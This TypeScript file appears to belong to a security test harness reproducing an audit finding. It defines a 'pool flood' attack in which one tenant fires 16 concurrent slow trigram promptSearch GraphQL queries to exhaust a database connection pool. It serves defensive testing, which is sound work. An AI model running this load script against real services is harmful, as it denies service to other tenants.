// Issue 25, finding 6: one tenant sends 16 concurrent, allowed 200-character promptSearch queries
// over its own organization's generations (each a slow trigram scan), back to back.

import { post } from "../lib/http-client.ts";
import { loops, type Attack } from "./attack.ts";

const PHRASES = [
  "a fluffy orange kitten", "a red sports car at night", "snowy mountains at dawn", "portrait of an old sailor",
  "a bowl of ramen", "city skyline in the rain", "a watercolor fox", "an astronaut riding a horse",
];
/** Words of the data set's own prompts: every trigram matches many rows (the slow case). */
export const SLOW_PATTERN = PHRASES.join(" ").repeat(2).slice(0, 200);

const SEARCH = `query S($org: UUID!, $q: String!) {
  organization(id: $org) { generations(first: 10, condition: { promptSearch: $q }) { nodes { id } } }
}`;

export const poolFlood: Attack = {
  name: "pool flood (A6)",
  description: "16 concurrent 200-character promptSearch queries from one signed-in tenant",
  start(context) {
    const body = JSON.stringify({ query: SEARCH, variables: { org: context.attacker.organizationId, q: SLOW_PATTERN } });
    const headers = { "content-type": "application/json", accept: "application/json", authorization: `Bearer ${context.attackerToken}` };
    return loops(16, async () => String((await post(context.graphqlUrl, body, headers)).status));
  },
};
